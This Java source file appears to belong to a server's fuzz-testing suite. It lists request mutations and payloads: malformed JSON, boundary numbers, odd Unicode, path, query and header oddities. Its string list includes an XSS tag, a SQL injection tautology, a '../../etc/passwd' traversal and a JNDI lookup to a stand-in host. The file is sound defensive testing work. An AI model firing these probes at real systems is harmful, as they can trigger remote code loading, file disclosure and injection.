package dev.familiar.server.drills;

import dev.familiar.server.drills.FuzzJson.Arr;
import dev.familiar.server.drills.FuzzJson.Obj;
import dev.familiar.server.drills.FuzzJson.Raw;
import java.util.List;

/**
 * What the drill does to a valid-ish request, and the fixed payload lists each kind picks from. A mutation is
 * a kind plus two small numbers (which field, which payload), so jqwik shrinks it towards the first field and
 * the simplest payload.
 */
final class Mutations {
    enum Kind {
        NONE(28), WRONG_TYPE(8), MISSING_REQUIRED(6), NULL_FIELD(3), EXTRA_FIELD(5), NUMBER_EDGE(6), STRING_ODDITY(10),
        NESTED_GARBAGE(3), DUPLICATE_KEY(4), MALFORMED_BODY(6), CONTENT_TYPE(5), PATH_ODDITY(4), QUERY_ODDITY(5),
        HEADER_ODDITY(4), WRONG_METHOD(2), OVERSIZE_BODY(1);

        final int weight;

        Kind(int weight) {
            this.weight = weight;
        }
    }

    record Mutation(Kind kind, int target, int variant) {
    }

    static final List<Object> WRONG_TYPES = List.of("text", 123, true, new Arr(List.of()), new Obj(List.of()), 1.5, "123",
            new Arr(List.of(1, 2)), new Obj(List.of(new FuzzJson.Field("a", 1))), "true");

    static final List<String> NUMBERS = List.of("0", "-1", "-9223372036854775808", "9223372036854775807",
            "9223372036854775808", "1e400", "-1e400", "1.5", "1E+2", "2147483648", "-2147483649", "1" + "0".repeat(1000),
            "-0", "0.0000001", "1e-400", "99999999999999999999", "-99999999999999999999", "0x10", "01");

    static final List<String> STRINGS = List.of("", " ", "\u0000", "a\u0000b", "\ud800", "x\udfffx", "\u202eevil",
            "\u200b", "😀".repeat(10), "e\u0301", "\ufeff", "\uffff", "<script>alert(1)</script>", "' OR 1=1 --",
            "../../etc/passwd", "%00", "${jndi:ldap://x.example/a}", "a".repeat(10_000), "é".repeat(100_000),
            "\n\r\t", "null", "true", "0", "-1", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "\\", "\"", "{}", "\u0085\u2028\u2029");

    static final List<String> MALFORMED = List.of("", "{", "}", "{\"a\":", "[]", "null", "\"x\"", "123",
            "{} trailing", "{'a':1}", "{\"a\":NaN}", "/*c*/{}", "\ufeff{}", "{\"a\":1,}", "[".repeat(5000),
            "{\"a\":".repeat(5000), "[" + "1,".repeat(50_000) + "1]", "\u0000", "{\"a\":\"\\ud800\"}", "{\"\\u0000\":1}",
            "{\"a\":\"\\x41\"}", "{\"a\" 1}", "true", "{\"a\":1}{\"b\":2}");

    /** Content types, and whether a server must refuse a body sent with them (not JSON at all). */
    record ContentType(String value, boolean notJson) {
    }

    static final List<ContentType> CONTENT_TYPES = List.of(new ContentType(null, true),
            new ContentType("text/plain", true), new ContentType("application/x-www-form-urlencoded", true),
            new ContentType("application/xml", true), new ContentType("multipart/form-data; boundary=x", true),
            new ContentType("application/octet-stream", true), new ContentType("application/jsonx", true),
            new ContentType("garbage", true), new ContentType("application/json; charset=iso-8859-1", false),
            new ContentType("application/json; charset=utf-16", false), new ContentType("APPLICATION/JSON", false),
            new ContentType("application/json;charset=UTF-8", false), new ContentType("application/problem+json", false));

    static final List<String> PATH_VALUES = List.of("", "not-a-uuid", "%2F", "a%2Fb", "..", "%2e%2e", "%00", "%C3%A9",
            "%FF", "a%20b", "x".repeat(3000), "00000000-0000-0000-0000-000000000000", "%ZZ", "%", "{orgId}", ";x",
            "a;b=c", "%252F", "%E2%80%AE", "x".repeat(10_000), "%u0041", "%F0%9F%98%80", "~", "*", "%G1", "a%");

    static final List<String> PATH_SUFFIXES = List.of("/", "//", "/extra", ";jsessionid=1", "%00", "/%2e%2e", "/..",
            "%20", ".json", "/%2F", "%FF", "/" + "x".repeat(10_000));

    static final List<String> QUERY_VALUES = List.of("", "abc", "-1", "0", "99999999999999999999", "1e3", "NaN", "1.5",
            "true", "%00", "x".repeat(5000), "%C3%A9", "%FF", "%ZZ", "null", "-9223372036854775809", "Infinity", " 1",
            "1%201", "2147483648", "%u0041", "%G1");

    static final List<List<String>> HEADERS = List.of(List.of("x-request-id", "r".repeat(10_000)),
            List.of("x-request-id", "bad id <>"), List.of("x-request-id", "r".repeat(129)),
            List.of("x-correlation-id", "c".repeat(300)), List.of("x-tenant-id", "00000000-0000-0000-0000-000000000000"),
            List.of("x-tenant-id", ""), List.of("x-tenant-id", "ïñvalid tenant"), List.of("Accept", "text/html"),
            List.of("Accept", "application/xml"), List.of("Origin", "https://evil.example"),
            List.of("Authorization", "Bearer " + "t".repeat(10_000)), List.of("X-Forwarded-For", "1.2.3.4, garbage"),
            List.of("Content-Encoding", "gzip"), List.of("x-request-id", "é😀"), List.of("Accept-Charset", "utf-16"),
            List.of("X-Api-Key", ""), List.of("Authorization", ""));

    static final List<String> METHODS = List.of("GET", "POST", "PUT", "PATCH", "DELETE", "FUZZ", "PROPFIND");

    private Mutations() {
    }

    static <T> T pick(List<T> list, int index) {
        return list.get(Math.floorMod(index, list.size()));
    }

    /** Nested arrays (even depth) or objects (odd depth) around a number. */
    static Raw nested(int depth) {
        boolean arrays = depth % 2 == 0;
        return new Raw((arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth));
    }

    static final int[] NESTING = {10, 100, 1000, 3001, 20_000};
}
